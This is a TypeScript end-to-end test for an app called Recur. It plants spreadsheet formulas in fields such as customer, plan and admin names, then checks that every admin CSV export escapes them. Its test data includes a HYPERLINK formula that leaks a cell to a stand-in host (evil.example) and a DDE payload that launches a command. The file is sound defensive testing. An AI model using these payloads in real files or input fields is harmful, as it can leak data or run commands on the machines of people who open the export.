import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EmailTemplate, Plan } from '../../server/db/models';
import { launchChromium } from '../helpers/browser';
import { payCheckoutPage } from '../helpers/checkout';
import { eventually, OWNER_EMAIL, OWNER_PASSWORD, signInCookie, startTestRecur, type TestRecur } from '../helpers/recur';
import { settle } from '../helpers/settle';
import { jsonRequest } from '../helpers/api';

/**
 * CSV injection (OWASP "CSV Injection"): a cell starting with =, +, -, @, a tab or a carriage
 * return is run as a formula by the spreadsheet that opens the export. Values typed into Recur
 * (a signup's name, a plan's or coupon's name, a form title, a template subject, an admin's or an
 * API key's name) are planted as formulas, and every list's Export button is pressed in the
 * browser: no cell of any export may start a formula, and each planted value comes out as text.
 */

const RESOURCES = [
  'payments',
  'subscriptions',
  'customers',
  'invoices',
  'plans',
  'coupons',
  'promotion-codes',
  'signup-forms',
  'events',
  'email-templates',
  'notifications',
  'audit-logs',
  'admin-users',
  'api-keys',
  'features',
  'webhook-endpoints',
  'webhook-deliveries',
] as const;

/** resource → a formula typed into it, which its export must show escaped */
const PLANTED: Partial<Record<(typeof RESOURCES)[number], string>> = {
  customers: '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")',
  plans: '+SUM(1,2)',
  coupons: '@SUM(A1:A9)',
  'signup-forms': '-2+3',
  'email-templates': '=1+1 {{planName}}',
  'admin-users': "=cmd|'/C calc'!A0",
  'api-keys': '@Bearer',
  features: '=FEATURE()',
  'webhook-endpoints': '-1+1 hooks',
};

let recur: TestRecur;
let url: string;
let browser: Browser;

async function api(method: string, path: string, cookie: string, body?: unknown): Promise<Response> {
  const res = await jsonRequest(recur.app, method, path, { cookie, body });
  if (res.status >= 300) throw new Error(`${method} ${path} answered ${res.status}: ${await res.text()}`);
  return res;
}

beforeAll(async () => {
  recur = await startTestRecur();
  url = await recur.listen();
  const cookie = await signInCookie(recur.app);
  const plan = (await Plan.findOne({ where: { name: 'Gold Monthly' } }))!;
  // An app's endpoint before the signup, so the signup's events make deliveries (to nowhere: they fail, and are listed).
  await api('POST', '/api/webhook-endpoints', cookie, { url: 'http://127.0.0.1:9/hooks', description: PLANTED['webhook-endpoints'] });

  // A person signs up with a formula as their name: customer, subscription, invoice, payment, events, e-mail.
  const signup = await recur.app.request('/signup', {
    method: 'POST',
    body: new URLSearchParams({ plan: String(plan.id), email: 'formula@example.com', name: PLANTED.customers! }),
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });
  const paid = await payCheckoutPage(signup.headers.get('location')!);
  await fetch(paid.headers.get('location')!);
  await settle(recur);

  await api('PUT', `/api/plans/${plan.id}`, cookie, { name: PLANTED.plans });
  const coupon = (await (await api('POST', '/api/coupons', cookie, { name: PLANTED.coupons, percentOff: 10, duration: 'once' })).json()) as { id: number };
  await api('POST', '/api/promotion-codes', cookie, { couponId: coupon.id, code: 'SPRING10' });
  await api('POST', '/api/signup-forms', cookie, { slug: 'formula', title: PLANTED['signup-forms'], allPlans: true });
  const template = (await EmailTemplate.findOne({ order: [['id', 'ASC']] }))!;
  await api('PUT', `/api/email-templates/${template.id}`, cookie, { subject: PLANTED['email-templates'], textBody: template.textBody });
  await api('POST', '/api/admin-users', cookie, {
    email: 'formula.admin@example.com',
    name: PLANTED['admin-users'],
    role: 'viewer',
    password: 'Violet-Harbor-Quasar-81',
  });
  await api('POST', '/api/api-keys', cookie, { name: PLANTED['api-keys'] });
  await api('POST', '/api/features', cookie, { key: 'formula', name: PLANTED.features, kind: 'boolean' });
  await settle(recur);
  await eventually(async () => (await recur.app.request('/api/customers', { headers: { cookie } })).text().then((t) => t.includes('HYPERLINK')));
  await eventually(async () => (await recur.app.request('/api/webhook-deliveries', { headers: { cookie } })).json().then((rows: unknown[]) => rows.length > 0));
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await recur?.close();
});

/** RFC 4180: quoted cells, doubled quotes, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** A cell a spreadsheet would run: a formula start, unless it is a plain number (a negative amount). */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

async function exportCsv(page: Page, resource: string): Promise<string[][]> {
  await page.goto(`${url}/admin/#/${resource}`);
  const button = page.getByRole('button', { name: 'Export' });
  await button.waitFor();
  await page.waitForFunction(() => !document.querySelector('button[aria-label="Export"][disabled]'));
  const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return parseCsv(readFileSync((await download.path())!, 'utf8'));
}

describe('CSV export from every admin list', () => {
  it('covers every resource the admin lists (a list added later must be added here)', () => {
    const app = readFileSync('admin/App.tsx', 'utf8');
    const listed = [...app.matchAll(/<Resource name="([^"]+)"/g)].map((m) => m[1]);
    expect([...listed].sort()).toEqual([...RESOURCES].sort());
  });

  it('escapes every cell a spreadsheet would run as a formula, in every resource', async () => {
    const page = await browser.newPage({ acceptDownloads: true });
    await page.goto(`${url}/admin/#/login`);
    await page.fill('#email', OWNER_EMAIL);
    await page.fill('#password', OWNER_PASSWORD);
    await page.click('button[type=submit]');
    await page.waitForURL((u) => !u.hash.includes('login'));
    for (const resource of RESOURCES) {
      const rows = await exportCsv(page, resource);
      expect([resource, rows.length > 1]).toEqual([resource, true]);
      const bad = rows.flat().filter(runnable);
      expect([resource, bad]).toEqual([resource, []]);
      const planted = PLANTED[resource];
      if (planted) expect([resource, rows.flat().some((cell) => cell.startsWith(`'${planted}`))]).toEqual([resource, true]);
    }
    await page.close();
  }, 180_000);
});
